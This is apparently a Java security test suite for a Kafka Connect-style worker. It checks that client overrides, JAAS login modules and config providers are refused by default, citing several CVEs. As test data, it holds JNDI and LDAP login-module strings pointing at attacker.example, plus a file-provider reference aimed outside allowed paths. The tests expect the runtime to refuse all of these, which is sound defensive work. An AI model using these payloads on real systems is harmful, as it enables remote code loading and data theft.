package io.ferry.runtime.security;

import static io.ferry.runtime.testing.WorkerFixture.connector;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.ferry.runtime.config.ConfigProblem;
import io.ferry.runtime.config.ConnectorConfigException;
import io.ferry.runtime.testing.WorkerFixture;
import io.ferry.runtime.testing.WorkerTest;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.apache.kafka.common.config.ConfigException;
import org.apache.kafka.connect.errors.ConnectException;
import org.junit.jupiter.api.Test;

/**
 * Safe by default (Kafka Connect's CVE-2023-25194, CVE-2025-27818, CVE-2024-31141): client
 * overrides, JAAS login modules and config providers, tried through a real worker.
 */
class SafeDefaultsTest extends WorkerTest {

    private static final String JNDI = "com.sun.security.auth.module.JndiLoginModule required "
            + "user.provider.url=\"ldap://attacker.example/x\" useFirstPass=\"true\";";
    private static final String LDAP = "com.sun.security.auth.module.LdapLoginModule required userProvider=\"ldap://attacker.example\";";
    private static final String PLAIN = "org.apache.kafka.common.security.plain.PlainLoginModule required username=\"u\" password=\"p4ssw0rd\";";

    private Map<String, String> source(String... more) {
        Map<String, String> config = connector("name", "src", "connector.class", "FileStreamSource",
                "file", root.resolve("in.txt").toString(), "topic", "t");
        for (int i = 0; i < more.length; i += 2) {
            config.put(more[i], more[i + 1]);
        }
        return config;
    }

    private static ConnectorConfigException invalid(Runnable action) {
        try {
            action.run();
        } catch (ConnectorConfigException e) {
            return e;
        }
        throw new AssertionError("the configuration was accepted");
    }

    @Test
    void connectorsMayNotOverrideClientSettingsByDefault() throws Exception {
        fixture = new WorkerFixture(root).start();

        ConnectorConfigException e = invalid(() -> fixture.worker().createOrUpdate("src", source("producer.override.acks", "0")));
        assertThat(e.problems()).extracting(ConfigProblem::key).containsExactly("producer.override.acks");
        assertThat(e.getMessage()).contains("connector.client.config.override.policy=None");
    }

    @Test
    void principalAllowsOnlySecuritySettingsAndAllNeverClientConfigProviders() throws Exception {
        fixture = new WorkerFixture(root).set("connector.client.config.override.policy", "Principal").start();
        fixture.worker().createOrUpdate("src", source("producer.override.sasl.mechanism", "PLAIN"));
        assertThat(invalid(() -> fixture.worker().createOrUpdate("src", source("producer.override.acks", "0"))).problems())
                .extracting(ConfigProblem::key).containsExactly("producer.override.acks");
        fixture.stop();

        fixture.set("connector.client.config.override.policy", "All").start();
        fixture.worker().createOrUpdate("src", source("producer.override.acks", "1"));
        ConnectorConfigException e = invalid(() -> fixture.worker().createOrUpdate("src",
                source("consumer.override.config.providers", "file", "consumer.override.config.providers.file.class",
                        "org.apache.kafka.common.config.provider.FileConfigProvider")));
        assertThat(e.problems()).extracting(ConfigProblem::key)
                .containsExactly("consumer.override.config.providers", "consumer.override.config.providers.file.class");
    }

    @Test
    void jaasConfigurationsNamingLoginModulesOutsideTheAllowlistAreRefusedNamingTheKey() throws Exception {
        fixture = new WorkerFixture(root).set("connector.client.config.override.policy", "All")
                // Listing them does not allow them.
                .set("ferry.sasl.jaas.allowed.login.modules", "org.apache.kafka.common.security.plain.PlainLoginModule,"
                        + "com.sun.security.auth.module.JndiLoginModule")
                .start();

        ConnectorConfigException jndi = invalid(() -> fixture.worker().createOrUpdate("src",
                source("producer.override.sasl.jaas.config", JNDI)));
        assertThat(jndi.problems()).extracting(ConfigProblem::key).containsExactly("producer.override.sasl.jaas.config");
        assertThat(jndi.getMessage()).contains("JndiLoginModule is never allowed");
        ConnectorConfigException inConnectorKey = invalid(() -> fixture.worker().createOrUpdate("src",
                source("database.sasl.jaas.config", "com.example.MyLoginModule required;")));
        assertThat(inConnectorKey.problems()).extracting(ConfigProblem::key).containsExactly("database.sasl.jaas.config");
        assertThat(inConnectorKey.getMessage()).contains("com.example.MyLoginModule is not allowed");
        fixture.worker().createOrUpdate("src", source("admin.override.sasl.jaas.config", PLAIN));
    }

    @Test
    void aWorkerConfigurationWithAForbiddenLoginModuleDoesNotStart() throws Exception {
        fixture = new WorkerFixture(root).set("consumer.sasl.jaas.config", LDAP);

        assertThatThrownBy(() -> fixture.start())
                .isInstanceOf(ConfigException.class)
                .hasMessageContaining("consumer.sasl.jaas.config: login module com.sun.security.auth.module.LdapLoginModule is never allowed");
    }

    @Test
    void configProvidersAreOffUnlessConfiguredAndFileProvidersNeedAllowedPaths() throws Exception {
        Path secrets = Files.createDirectories(root.resolve("secrets"));
        Files.writeString(secrets.resolve("db.properties"), "topic=from-provider\n");
        Path outside = Files.writeString(root.resolve("outside.properties"), "topic=leaked\n");
        String reference = "${file:" + secrets.resolve("db.properties") + ":topic}";

        fixture = new WorkerFixture(root).start();
        fixture.worker().createOrUpdate("src", source("topic", reference));
        assertThat(fixture.worker().connectorConfig("src")).containsEntry("topic", reference);
        assertThat(fixture.worker().taskConfigs("src").get(0).config()).as("no provider: the reference stays as it is")
                .containsEntry("topic", reference);
        fixture.stop();

        fixture.set("config.providers", "file")
                .set("config.providers.file.class", "org.apache.kafka.common.config.provider.FileConfigProvider");
        assertThatThrownBy(() -> fixture.start()).isInstanceOf(ConnectException.class)
                .hasMessageContaining("set config.providers.file.param.allowed.paths");

        fixture.set("config.providers.file.param.allowed.paths", secrets.toString()).start();
        fixture.worker().createOrUpdate("src", source("topic", reference));
        assertThat(fixture.worker().taskConfigs("src").get(0).config()).containsEntry("topic", "from-provider");
        String outsideReference = "${file:" + outside + ":topic}";
        fixture.worker().createOrUpdate("outside", source("name", "outside", "topic", outsideReference));
        assertThat(fixture.worker().taskConfigs("outside").get(0).config()).as("a file outside allowed.paths is not read")
                .containsEntry("topic", outsideReference);
    }

    @Test
    void theEnvironmentProviderNeedsAnAllowlist() throws Exception {
        fixture = new WorkerFixture(root).set("config.providers", "env")
                .set("config.providers.env.class", "org.apache.kafka.common.config.provider.EnvVarConfigProvider");

        assertThatThrownBy(() -> fixture.start()).isInstanceOf(ConnectException.class)
                .hasMessageContaining("set config.providers.env.param.allowlist.pattern");
    }
}
